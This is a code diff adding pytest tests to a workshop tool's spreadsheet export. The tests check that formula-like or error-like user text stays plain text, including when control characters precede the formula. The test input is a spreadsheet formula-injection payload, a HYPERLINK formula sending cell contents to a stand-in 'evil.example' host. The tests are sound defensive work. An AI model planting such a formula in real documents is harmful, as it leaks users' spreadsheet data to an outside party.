@@ -312,3 +312,56 @@ def test_libreoffice_opens_the_export_and_keeps_formula_like_text_as_text(
     assert rows[str(ids.action)][10] == "2027-03-31" and rows[str(ids.action)][11] == "Planned"
     for sheet in ("Causes", "Situation picture", "Participants", "About"):
         assert (tmp_path / f"book-{sheet}.csv").exists()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+@pytest.mark.parametrize("control", ["\x01", "\x1f", "\x0b\x0c"])
+def test_a_control_character_before_a_formula_does_not_make_it_one(
+    session, make_workshop, control: str, start: str
+) -> None:
+    """The cells are checked after the XML-illegal characters are dropped, not before: once
+    they are gone the text starts with =, + , - or @, and it must still be a text cell."""
+    w = make_workshop(participants=2, language="en")
+    raw = f'{control}{start}HYPERLINK("http://evil.example/?"&A1,"Klicka")'
+    clean = raw.replace(control, "")
+    situation = add(session, w, "situation", raw, group_label=raw)
+    cause = add(session, w, "cause", raw, links=[situation])
+    add(
+        session,
+        w,
+        "action",
+        raw,
+        links=[cause],
+        owner_organization=raw,
+        owner_person=raw,
+    )
+    session.commit()
+    wb = workbook_of(session, w)
+    texts = {
+        "Actions": ["Action", "Owner organization", "Owner", "Cause", "Situation"],
+        "Causes": ["Cause", "Situation", "Action"],
+        "Situation picture": ["Situation", "Group", "Cause"],
+    }
+    for sheet, names in texts.items():
+        ws = wb[sheet]
+        row = {h: ws.cell(2, i + 1) for i, h in enumerate(header(ws))}
+        for name in names:
+            cell = row[name]
+            assert cell.data_type == "s", (sheet, name)
+            assert clean in cell.value and control not in cell.value, (sheet, name)
+            if cell.value.startswith(clean):  # the note itself, not "#12 …" linked text
+                assert cell.quotePrefix, (sheet, name)
+    for ws in wb.worksheets:
+        for cells in ws.iter_rows():
+            assert all(c.data_type != "f" for c in cells), ws.title
+
+
+@pytest.mark.parametrize("text", ["#N/A", "#DIV/0!", "#REF!"])
+def test_text_that_looks_like_an_error_value_stays_text(session, make_workshop, text: str) -> None:
+    w = make_workshop(participants=2, language="en")
+    add(session, w, "action", text, owner_person=text)
+    session.commit()
+    ws = workbook_of(session, w)["Actions"]
+    row = {h: ws.cell(2, i + 1) for i, h in enumerate(header(ws))}
+    for name in ("Action", "Owner"):
+        assert row[name].data_type == "s" and row[name].value == text
